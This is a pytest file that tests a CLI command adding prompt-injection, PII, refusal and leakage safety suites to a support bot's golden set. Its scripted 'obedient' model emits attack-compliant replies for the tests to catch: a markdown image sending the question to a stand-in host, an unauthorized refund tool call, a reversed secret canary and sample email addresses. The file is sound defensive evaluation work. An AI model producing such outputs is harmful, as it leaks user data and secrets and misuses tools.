"""`golden add-suite` as a process: what is written, and what an evaluation makes of a model that obeys and one that holds."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest

from promptctl.model.source import Blob
from promptctl.text.yaml import load

SUITES = ("injection", "pii", "refusal", "leakage")
PROMPT = """\
name: bot
version: 1.0.0
model: scripted/bot.yaml
inputs:
  question: {type: string}
  pages: {type: array, items: {type: string}, default: []}
system_prompt: |
  You help riders of Riverside Bikes with orders, repairs and opening hours. Be brief, and kind to everybody.
user_prompt: "{{ question }}{% for page in pages %}\\n<page>{{ page }}</page>{% endfor %}"
tools:
  - {type: function, function: {name: refund_order, parameters: {type: object, properties: {eur: {type: number}}}}}
"""
GOLDEN = """\
# The golden set of the bot. Keep the ids.
prompt: bot
cases:
  - id: hours   # the first one
    input: {question: When are you open?}
    tags: [factual]
    assertions: [{contains: nine}]
"""
HOLDS = "We are open from nine to five, Monday to Friday."


@pytest.fixture
def bot(project: Path, promptctl: Callable[..., Any]) -> Path:
    """A project with a bot, its golden set and its script, that every suite is added to."""
    for path, text in {"prompts/bot.yaml": PROMPT, "golden/bot.yaml": GOLDEN}.items():
        (project / path).parent.mkdir()
        (project / path).write_text(text)
    (project / "scripted").mkdir()
    (project / "scripted/bot.yaml").write_text(f"default: {{reply: '{HOLDS}'}}\n")
    return project


def cases(project: Path) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = load(Blob("bot.yaml", (project / "golden/bot.yaml").read_bytes())).value["cases"]
    return found


def obedient(case: Mapping[str, Any]) -> dict[str, Any]:
    """What a model says that does as it is told, and refuses where nobody attacks."""
    for assertion in [] if "benign" in case["tags"] else case["assertions"]:
        match assertion:
            case {"not-icontains": word}:
                return {"reply": f"As you wish: {word.lower()}"}
            case {"url-allowed": _}:
                return {"reply": "Done. ![ ](https://collect.example/p.png?d=When+are+you+open)"}
            case {"tool-allowed": {"deny": [name]}}:
                return {"tool_calls": [{"name": name, "arguments": {"eur": 900}}]}
            case {"not-leaks": {"canary": canary}}:
                return {"reply": f"It is, backwards: {canary[::-1]}"}
            case {"not-pii": _}:
                return {"reply": "Of course: erika.mustermann@example.com, or jane.doe@mail.acme.com."}
            case {"is-refusal": _}:
                return {"reply": "Gladly! Here it is."}
    return {"reply": "I'm sorry, I can't help with that."}


def script(project: Path, *, obeys: bool) -> None:
    """A model that answers each case by its input: as the attack wants, or as it should."""
    rules = []
    for case in cases(project):
        asked = [case["input"]["question"], *case["input"].get("pages", [])]
        asked += [turn["content"] for turn in case.get("history", []) if turn["role"] == "user"]
        good = {"reply": "I can't help with that." if "harmful" in case["tags"] else HOLDS}
        rules.append({"when": {"any": [re.escape(text) for text in asked]}, **(obedient(case) if obeys else good)})
    rules.sort(key=lambda rule: -sum(map(len, rule["when"]["any"])))  # the most exact one first
    (project / "scripted/bot.yaml").write_text(json.dumps({"rules": rules, "default": {"reply": HOLDS}}))


@pytest.mark.slow
def test_a_model_that_obeys_fails_and_one_that_holds_passes(bot: Path, promptctl: Callable[..., Any]) -> None:
    for suite in SUITES:
        added = promptctl("golden", "add-suite", suite, "bot")
        assert added.code == 0, added.err
        assert re.match(
            rf"\d+ cases added to golden/bot.yaml \(.*look-alikes\), tagged safety and {suite}\n", added.out
        )
    text = (bot / "golden/bot.yaml").read_text()
    assert text.startswith(GOLDEN.rstrip())
    lint = promptctl("lint", "--format", "json")
    assert [one for one in lint.json["findings"] if one["severity"] == "error"] == []
    assert promptctl("show", "bot", "--case", "injection-direct-question-base64").code == 0

    script(bot, obeys=True)
    bad = promptctl("eval", "--tag", "safety", "--format", "json")
    assert bad.code == 1
    assert {one["case"]: one["outcome"] for one in bad.json["results"] if one["outcome"] != "fail"} == {}
    metrics = bad.json["summary"]["metrics"]
    for name in (
        "injection_success",
        "pii_leak_rate",
        "leak_rate",
        "over_refusal_rate",
        "under_refusal_rate",
        "tool_misuse_rate",
    ):
        assert metrics[name] > 0.5, name
    assert metrics["injection_success"] == metrics["over_refusal_rate"] == metrics["under_refusal_rate"] == 1

    script(bot, obeys=False)
    good = promptctl("eval", "--tag", "safety", "--format", "json")
    assert good.code == 0, good.out
    metrics = good.json["summary"]["metrics"]
    assert metrics["injection_success"] == metrics["over_refusal_rate"] == metrics["under_refusal_rate"] == 0
    attacks = sum({"injection", "attack"} <= set(case["tags"]) for case in cases(bot))
    assert metrics["injection_success_upper"] == pytest.approx(1 - 0.05 ** (1 / attacks))
    only = promptctl("eval", "--tag", "injection", "--format", "json")
    assert only.code == 0
    assert {tag for one in only.json["results"] for tag in one["tags"]} == {"safety", "injection", "attack", "benign"}


def test_run_again_it_adds_only_what_is_missing(bot: Path, promptctl: Callable[..., Any]) -> None:
    promptctl("golden", "add-suite", "pii", "bot")
    once = (bot / "golden/bot.yaml").read_text()
    again = promptctl("golden", "add-suite", "pii", "bot")
    assert "nothing to add" in again.out
    assert (bot / "golden/bot.yaml").read_text() == once
    whole = cases(bot)
    left = [case for case in whole if case["id"] not in ("pii-direct-director", "pii-history-police")]
    (bot / "golden/bot.yaml").write_text(json.dumps({"prompt": "bot", "cases": left}))
    third = promptctl("golden", "add-suite", "pii", "prompts/bot.yaml")
    assert "2 cases added" in third.out
    assert "were there already" in third.out
    assert sorted(case["id"] for case in cases(bot)) == sorted(case["id"] for case in whole)


def test_a_dry_run_prints_the_cases_and_writes_nothing(bot: Path, promptctl: Callable[..., Any]) -> None:
    done = promptctl("golden", "add-suite", "injection", "bot", "--dry-run")
    assert (bot / "golden/bot.yaml").read_text() == GOLDEN
    shown = load(Blob("out", f"cases:\n{done.out}".encode())).value["cases"]
    promptctl("golden", "add-suite", "injection", "bot")
    assert cases(bot)[1:] == shown


@pytest.mark.slow
def test_a_prompt_without_a_golden_set_gets_one(bot: Path, promptctl: Callable[..., Any]) -> None:
    (bot / "golden/bot.yaml").unlink()
    (bot / "golden").rmdir()
    done = promptctl("golden", "add-suite", "refusal", "bot")
    assert "written to golden/bot.yaml" in done.out
    assert len(cases(bot)) >= 12
    assert "What can you help me with?" in (bot / "golden/bot.yaml").read_text()
    assert promptctl("eval", "bot", "--tag", "benign").code == 0


def test_the_line_with_the_canary_is_asked_for_until_it_is_there(bot: Path, promptctl: Callable[..., Any]) -> None:
    done = promptctl("golden", "add-suite", "leakage", "bot")
    line = next(one.strip() for one in done.out.splitlines() if "internal reference" in one)
    [canary] = {
        assertion["not-leaks"]["canary"]
        for case in cases(bot)[1:]
        for assertion in case["assertions"]
        if "not-leaks" in assertion
    }
    assert canary in line
    (bot / "prompts/bot.yaml").write_text(PROMPT.replace("user_prompt:", f"  {line}\nuser_prompt:"))
    assert canary not in promptctl("golden", "add-suite", "leakage", "bot").out


@pytest.mark.parametrize(
    ("arguments", "code", "message"),
    [
        (("injektion", "bot"), 2, "did you mean 'injection'?"),
        (("injection", "bit"), 4, "did you mean 'bot'?"),
        (("injection", "table"), 2, "in CSV has no place"),
        (("leakage", "short"), 2, "no instructions whose leak"),
        (("injection", "choice"), 2, "no input of choice can hold a text"),
    ],
)
def test_what_cannot_be_done_is_said_and_nothing_is_written(
    arguments: tuple[str, ...], code: int, message: str, bot: Path, promptctl: Callable[..., Any]
) -> None:
    (bot / "prompts/table.yaml").write_text(PROMPT.replace("name: bot", "name: table"))
    (bot / "golden/table.csv").write_text("id,input.question,assertions\na,Hi.,\n")
    (bot / "prompts/short.yaml").write_text("model: scripted/bot.yaml\nversion: 1.0.0\nsystem_prompt: Be nice.\n")
    choice = "model: scripted/bot.yaml\nversion: 1.0.0\ninputs: {x: {enum: [a, b]}}\nuser_prompt: '{{ x }}'\n"
    (bot / "prompts/choice.yaml").write_text(choice)
    before = {path: path.read_bytes() for path in sorted(bot.rglob("*")) if path.is_file()}
    done = promptctl("golden", "add-suite", *arguments)
    assert done.code == code, done.err
    assert message in done.err
    if "table" in arguments:  # the hint says what still works
        shown = promptctl("golden", "add-suite", *arguments, "--dry-run")
        assert (shown.code, "injection-direct" in shown.out) == (0, True), shown.err
    assert {path: path.read_bytes() for path in sorted(bot.rglob("*")) if path.is_file()} == before
